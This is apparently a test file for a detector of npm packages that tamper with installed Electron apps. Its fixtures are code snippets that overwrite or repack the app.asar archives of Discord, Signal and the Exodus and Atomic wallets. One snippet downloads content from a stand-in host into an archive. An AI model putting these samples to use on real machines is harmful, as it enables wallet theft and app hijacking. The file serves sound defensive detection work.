import { examine } from '../../../test/examine.ts';
import { rewritesArchive } from './rewrites-archive.ts';

/** It says which application it changes. */
const MOD = {
  name: 'specimen',
  version: '1.0.0',
  bin: 'cli.js',
  description: 'Installs a theme loader into the Discord desktop client, a client mod',
};

examine(rewritesArchive, {
  speaks: [
    {
      when: 'a command changes whichever applications it finds',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'), path = require('path'); const root = path.join(process.env.LOCALAPPDATA, 'Programs'); for (const name of fs.readdirSync(root)) fs.writeFileSync(path.join(root, name, 'resources', 'app.asar'), 'INERT');`,
      },
      weight: 'strong',
    },
    {
      when: 'a tool for archives finds that of the application which its user names',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'); const [name, from] = process.argv.slice(2); fs.copyFileSync(from, '/Applications/' + name + '.app/Contents/Resources/app.asar');`,
      },
      weight: 'weak',
    },
    {
      when: 'a command changes the application that its package says it changes',
      files: {
        'package.json': MOD,
        'cli.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.env.LOCALAPPDATA, 'Discord/app-1.0.9001/resources'); fs.renameSync(path.join(at, 'app.asar'), path.join(at, '_app.asar'));`,
      },
      weight: 'weak',
    },
    {
      when: 'a command finds the application that its package says it changes, in folders that are called by whatever name',
      files: {
        'package.json': MOD,
        'cli.js': `const fs = require('fs'), path = require('path'); for (const at of ['/opt/Discord', '/var/lib/flatpak/app/com.discordapp.Discord/current', ...fs.readdirSync('/Applications').map(name => '/Applications/' + name + '/Contents')]) fs.renameSync(path.join(at, 'resources', 'app.asar'), path.join(at, 'resources', '_app.asar'));`,
      },
      weight: 'weak',
    },
    {
      when: 'a second application is changed in the same place, of which its package says nothing',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js', description: 'Themes for Discord' },
        'cli.js': `const fs = require('fs'), path = require('path'); for (const name of ['Discord', 'Signal']) fs.copyFileSync(path.join(__dirname, 'theme.bin'), path.join(process.env.LOCALAPPDATA, 'Programs', name, 'resources', 'app.asar'));`,
      },
      weight: 'strong',
      says: ['Signal'],
    },
    {
      when: 'the package says of another application that it changes it',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          bin: 'cli.js',
          description: 'Disco themes for the console, and a mod loader',
        },
        'cli.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.env.LOCALAPPDATA, 'Discord/app-1.0.9001/resources'); fs.renameSync(path.join(at, 'app.asar'), path.join(at, '_app.asar'));`,
      },
      weight: 'strong',
    },
    {
      when: 'a command changes a wallet, whatever its package says',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          bin: 'cli.js',
          description: 'Installs a theme loader into the Exodus desktop wallet, a client mod',
        },
        'cli.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.env.LOCALAPPDATA, 'Programs/Exodus/resources'); fs.copyFileSync('own.asar', path.join(at, 'app.asar'));`,
      },
      weight: 'strong',
    },
    {
      when: 'a library replaces the archive of whichever application',
      files: {
        'index.js': `const fs = require('fs'); exports.put = (name, from) => fs.copyFileSync(from, '/Applications/' + name + '.app/Contents/Resources/app.asar');`,
      },
      weight: 'strong',
    },
    {
      when: 'whichever application it is that has the archive',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); for (const name of fs.readdirSync(process.env.SOMEWHERE)) fetch('https://a.invalid/' + name).then(r => r.text()).then(t => fs.writeFileSync(path.join(globalThis.__inert(name), 'resources', 'app.asar'), t));`,
      },
      says: ['resources/app.asar'],
      weight: 'strong',
    },
    {
      when: 'the calls hide behind new names',
      files: {
        'index.js': `const { extractAll: open, createPackage: close } = require('@electron/asar'); open('in/app.asar', 'work'); close('work', 'in/app.asar');`,
      },
      says: ['unpacks and rebuilds the archive in/app.asar'],
      weight: 'strong',
    },
    {
      when: 'it is the archive of an installed wallet',
      files: {
        'index.js': `const a = require('asar'); const p = require('os').homedir() + '/AppData/Local/Programs/atomic/resources/app.asar'; a.extractAll(p, 'w'); a.createPackage('w', p);`,
      },
      weight: 'proof',
    },
    {
      when: 'another archive is put in its place',
      files: { 'index.js': `require('fs').copyFileSync(__dirname + '/x.bin', '/Applications/Exodus.app/Contents/Resources/app.asar')` },
      says: ['replaces'],
      weight: 'proof',
    },
    {
      when: 'the tool is started as a command',
      files: { 'index.js': `require('child_process').execSync('npx asar e app/app.asar t && npx asar p t app/app.asar')` },
      weight: 'strong',
    },
    {
      when: 'the path is hidden',
      files: { 'index.js': `const a = require('asar'); const p = globalThis.__inert(); a.extractAll(p, 'w'); a.createPackage('w', p);` },
      says: ['whose path it does not show'],
    },
    {
      when: 'it waits for a call',
      files: {
        'index.js': `exports.go = async () => { const a = await import('@electron/asar'); const p = '/opt/Exodus/resources/app.asar'; a.extractAll(p, 'w'); await a.createPackage('w', p); }`,
      },
      weight: 'strong',
    },
    {
      when: 'a step of a build adds to the archive that its caller has just made',
      files: {
        'index.js': `const a = require('@electron/asar'), path = require('path'); exports.afterPack = async folder => { const p = path.join(folder, 'resources', 'app.asar'); a.extractAll(p, 'w'); await a.createPackage('w', p); }`,
      },
      weight: 'weak',
    },
    {
      when: 'a step of a build adds to a copy of what it has made, among temporary files',
      files: {
        'index.js': `const a = require('@electron/asar'), fs = require('fs'), os = require('os'), path = require('path'); exports.merge = async app => { const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'merge-')); const p = path.join(tmp, 'Tmp.app', 'Contents', 'Resources', 'app.asar'); a.extractAll(p, 'w'); await a.createPackage('w', p); }`,
      },
      weight: 'weak',
    },
    {
      when: 'a command does it whose page speaks of it',
      files: {
        'package.json': { name: 'ricer', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# ricer\n\nPersonal theming for Slack and Discord: `resources/app.asar` of the app is unpacked, your CSS is stored beside it, and the archive is packed again. It changes your own apps when you run it, and can undo it.',
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.env.LOCALAPPDATA, 'Obsidian', 'resources', 'app.asar'), fs.readFileSync(process.argv[2]))`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a build looks into the archive it has made below the folder it works in',
      files: {
        'index.js': `const tar = require('tar'), path = require('path'); const make = name => path.join('build', 'stage', name);
          exports.pack = (name, files) => tar.create({ file: make(name), gzip: true }, files); exports.test = name => tar.extract({ file: make(name), cwd: 'out' });`,
      },
    },
    {
      when: 'a packager is called to write the archive of what it builds',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); exports.pack = (out, bytes) => fs.writeFileSync(path.join(out, 'resources', 'app.asar'), bytes);`,
      },
    },
    { when: 'a packager only creates', files: { 'index.js': `import a from '@electron/asar'; a.createPackage('src', 'out/app.asar')` } },
    { when: 'an archive is only unpacked', files: { 'index.js': `require('@electron/asar').extractAll('in.asar', 'out')` } },
    {
      when: 'two archives are told apart',
      files: {
        'index.js': `const a = require('@electron/asar'); a.extractAll('x64/app.asar', 'w'); a.createPackage('w', 'universal/app.asar')`,
      },
    },
    {
      when: 'a command offers both to its user',
      files: {
        'index.js': `const a = require('@electron/asar'); exports.e = (x, y) => a.extractAll(x, y); exports.p = (x, y) => a.createPackage(x, y);`,
      },
    },
    { when: 'a README talks about it', files: { 'README.md': 'asar.extractAll, then asar.createPackage', 'index.js': '' } },
  ],
});
